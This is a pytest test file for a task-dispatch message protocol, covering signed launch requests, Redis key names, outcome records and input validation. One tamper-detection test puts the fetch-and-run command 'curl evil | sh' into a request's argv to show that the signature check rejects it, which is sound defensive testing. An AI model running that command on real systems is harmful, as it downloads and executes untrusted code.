"""The message schemas: round trips, signatures, and clear errors for untrusted input."""

from __future__ import annotations

import json
from typing import Any

import pytest

from bridge.naming import create_pod_id
from bridge.protocol import (
    KEY_TABLE,
    DeleteRequest,
    Keys,
    LaunchRequest,
    MessageError,
    Outcome,
    TryRecord,
    TryState,
    decode_text,
    field_pairs,
    job_id_for,
)
from bridge.task_key import TaskKey

KEY = TaskKey("etl", "load", "manual__2026-11-24T00:00:00+00:00", 2, 3)
SIGNING_KEY = "s" * 40


def test_job_id_is_the_pod_name_and_a_valid_rq_id() -> None:
    assert job_id_for(KEY) == create_pod_id(KEY)
    assert all(character.isalnum() or character == "-" for character in job_id_for(KEY))


def test_keys_default_result_stream_and_prefix() -> None:
    keys = Keys("blue")
    assert keys.results == "blue:results"
    assert Keys("blue", "custom:stream").results == "custom:stream"
    assert keys.try_record("abc") == "blue:try:abc"
    assert keys.launch_secret("abc") == "blue:launch-secret:abc"
    assert keys.watcher_leader("ns") == "blue:watcher:ns:leader"


def test_every_key_name_is_documented_in_the_table() -> None:
    keys = Keys("<prefix>")
    patterns = " ".join(doc.pattern for doc in KEY_TABLE)
    for name in (
        keys.try_record("<job id>"),
        keys.launch_secret("<job id>"),
        keys.in_flight,
        keys.results,
        keys.dispatchers,
        keys.watcher_leader("<namespace>"),
        keys.watcher_checkpoint("<namespace>"),
        Keys.rq_queue("<queue>"),
        Keys.rq_intermediate("<queue>"),
        Keys.rq_started("<queue>"),
        Keys.rq_failed("<queue>"),
        Keys.rq_job("<job id>"),
    ):
        assert name in patterns, name


@pytest.mark.parametrize("signing_key", [None, SIGNING_KEY])
def test_launch_request_round_trips_through_json(signing_key: str | None) -> None:
    request = LaunchRequest(KEY, ("python", "-c", "print(1)"), "q", {"pod_override": {}}, "2026-11-24")
    payload = json.loads(json.dumps(request.to_payload(signing_key)))
    assert ("sig" in payload) is (signing_key is not None)
    assert LaunchRequest.from_payload(payload, signing_key) == request


@pytest.mark.parametrize("signing_key", [None, SIGNING_KEY])
def test_secret_env_names_travel_in_the_request_and_an_old_payload_has_none(signing_key: str | None) -> None:
    request = LaunchRequest(KEY, ("true",), "q", secret_env=("KBRIDGE_WORKLOAD_JSON", "_B2"))
    payload = json.loads(json.dumps(request.to_payload(signing_key)))
    assert payload["secret_env"] == ["KBRIDGE_WORKLOAD_JSON", "_B2"]
    assert LaunchRequest.from_payload(payload, signing_key) == request
    old = LaunchRequest(KEY, ("true",), "q").to_payload(signing_key)
    assert "secret_env" not in old  # a request without secrets is exactly what it was before
    assert LaunchRequest.from_payload(old, signing_key).secret_env == ()


def test_a_tampered_launch_request_is_refused() -> None:
    payload = LaunchRequest(KEY, ("true",), "q").to_payload(SIGNING_KEY)
    payload["argv"] = ["sh", "-c", "curl evil | sh"]
    with pytest.raises(MessageError, match="'sig' does not match"):
        LaunchRequest.from_payload(payload, SIGNING_KEY)


def test_an_unsigned_request_is_refused_when_a_key_is_configured() -> None:
    payload = LaunchRequest(KEY, ("true",), "q").to_payload(None)
    with pytest.raises(MessageError, match="'sig' is missing"):
        LaunchRequest.from_payload(payload, SIGNING_KEY)


@pytest.mark.parametrize(
    ("change", "field"),
    [
        ({"argv": "echo hi"}, "'argv'"),
        ({"argv": []}, "'argv'"),
        ({"argv": ["ok", 3]}, "'argv'"),
        ({"queue": 5}, "'queue'"),
        ({"pod_config": []}, "'pod_config'"),
        ({"key": {"dag_id": "d"}}, "'key'"),
        ({"key": "not an object"}, "'key'"),
        ({"secret_env": "TOKEN"}, "'secret_env' must be list"),
        ({"secret_env": ["OK", 5]}, "'secret_env': a name must be a string, got int"),
        ({"secret_env": ["BAD-NAME"]}, "'secret_env': a name 'BAD-NAME' is not a valid name"),
        ({"secret_env": ["1ST"]}, "'secret_env': a name '1ST' is not a valid name"),
        ({"secret_env": ["A", "A"]}, "'secret_env' names a variable twice"),
        ({"secret_env": [f"V{n}" for n in range(65)]}, "'secret_env' names 65 variables, more than the 64"),
    ],
)
def test_malformed_launch_requests_name_the_field(change: dict[str, Any], field: str) -> None:
    payload = {**LaunchRequest(KEY, ("true",), "q").to_payload(None), **change}
    with pytest.raises(MessageError, match=field):
        LaunchRequest.from_payload(payload, None)


def test_a_launch_request_must_be_an_object() -> None:
    with pytest.raises(MessageError, match="JSON object"):
        LaunchRequest.from_payload(["not", "a", "dict"], None)


def test_delete_request_round_trips_and_checks_its_signature() -> None:
    request = DeleteRequest(KEY, "team-a")
    payload = request.to_payload(SIGNING_KEY)
    assert DeleteRequest.from_payload(payload, SIGNING_KEY) == request
    with pytest.raises(MessageError, match="'sig'"):
        DeleteRequest.from_payload({**payload, "namespace": "other"}, SIGNING_KEY)


def test_outcome_fields_are_flat_strings_and_round_trip_as_bytes() -> None:
    outcome = Outcome(KEY, TryState.FAILED, "OOMKilled", "container ran out of memory", 137, "pod", "ns")
    fields = outcome.to_fields()
    assert all(isinstance(value, str) for value in fields.values())
    assert fields["job_id"] == job_id_for(KEY)
    as_bytes = {name.encode(): value.encode() for name, value in fields.items()}
    decoded = Outcome.from_fields(as_bytes)
    assert decoded == Outcome(**{**outcome.__dict__, "at": fields["at"]})


@pytest.mark.parametrize(
    ("change", "field"),
    [
        ({"key": "{"}, "'key'"),
        ({"state": "exploded"}, "'state'"),
        ({"state": "queued"}, "not a streamed state"),
        ({"exit_code": "x"}, "'exit_code'"),
    ],
)
def test_malformed_outcomes_name_the_field(change: dict[str, str], field: str) -> None:
    fields = {**Outcome(KEY, TryState.SUCCESS).to_fields(), **change}
    with pytest.raises(MessageError, match=field):
        Outcome.from_fields(fields)


def test_try_record_round_trips_and_omits_empty_identity_fields() -> None:
    record = TryRecord(KEY, TryState.LAUNCHED, queue="q", pod="p", namespace="ns")
    fields = record.to_fields()
    assert "phase" not in fields
    assert "exit_code" not in fields
    assert (fields["reason"], fields["message"]) == ("", "")  # a new state clears the last one's reason
    decoded = TryRecord.from_hash({**fields, "revoked": "1"})
    assert decoded == TryRecord(**{**record.__dict__, "revoked": True, "updated_at": fields["updated_at"]})


def test_an_unreadable_try_record_is_a_message_error() -> None:
    with pytest.raises(MessageError, match="try record"):
        TryRecord.from_hash({"key": "{}", "state": "nonsense"})


def test_decode_text_refuses_bytes_that_are_not_utf8_unless_only_displayed() -> None:
    assert decode_text(b"caf\xc3\xa9") == "café"
    assert decode_text(7) == "7"
    with pytest.raises(MessageError, match="not UTF-8"):
        decode_text(b"\xff\xfe")
    assert decode_text(b"a\xffb", replace=True) == "a\ufffdb"


def test_field_pairs_flattens_in_order() -> None:
    assert field_pairs({"a": "1", "b": "2"}) == ["a", "1", "b", "2"]


@pytest.mark.parametrize("name", [b"key", b"\xff"])
def test_an_outcome_or_record_that_is_not_utf8_is_a_message_error(name: bytes) -> None:
    fields: dict[bytes, bytes] = {
        field.encode(): value.encode() for field, value in Outcome(KEY, TryState.SUCCESS).to_fields().items()
    }
    fields[name] = b"\xff"
    with pytest.raises(MessageError, match=r"result stream entry: .* not UTF-8"):
        Outcome.from_fields(fields)
    with pytest.raises(MessageError, match=r"try record: .* not UTF-8"):
        TryRecord.from_hash(fields)


def test_the_key_table_names_every_writer_of_the_result_stream() -> None:
    (results,) = [doc for doc in KEY_TABLE if doc.pattern == "<prefix>:results"]
    assert results.writer == "watcher, dispatchers, executor (revoke)"
